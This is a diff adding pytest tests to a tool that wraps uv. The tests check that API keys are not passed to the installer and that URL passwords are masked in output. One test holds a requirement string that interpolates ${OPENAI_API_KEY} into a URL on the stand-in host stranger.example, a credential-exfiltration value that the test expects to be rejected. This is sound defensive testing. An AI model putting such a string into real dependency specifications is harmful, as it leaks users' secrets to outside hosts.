@@ -660,6 +660,20 @@ def test_no_index_of_either_tool_is_honoured():
     assert uv_settings({"UV_NO_INDEX": "1"})[1] == ["--no-index"]
 
 
+def test_uv_gets_no_variable_that_it_does_not_need():
+    """It fills in what a requirement names, also one in the metadata of somebody's wheel."""
+    given = dict.fromkeys(("OPENAI_API_KEY", "CC", "HTTPS_PROXY", "UV_INDEX", "PATH"), "x")
+    assert uv_settings(given)[0].keys() - {"NO_COLOR"} == {"HTTPS_PROXY", "UV_INDEX", "PATH"}
+    assert uv_settings(given, allow_builds=True)[0].keys() >= given.keys()
+    with pytest.raises(InvalidOption, match="a variable of this host"):
+        Environment("a", packages=["x @ http://stranger.example/${OPENAI_API_KEY}/x-1.whl"])
+
+
+def test_no_password_of_an_address_is_shown():
+    given = "x @ https://me:secret@a.example/x.whl?t=1"
+    assert requirement.shown(given) == "x @ https://***@a.example/x.whl?***"
+
+
 def test_variables_that_would_redirect_the_installation_are_not_inherited():
     names = ("VIRTUAL_ENV", "UV_PYTHON", "PYTHONPATH", "UV_NO_BINARY", "UV_LINK_MODE")
     given = dict.fromkeys(names, "x")
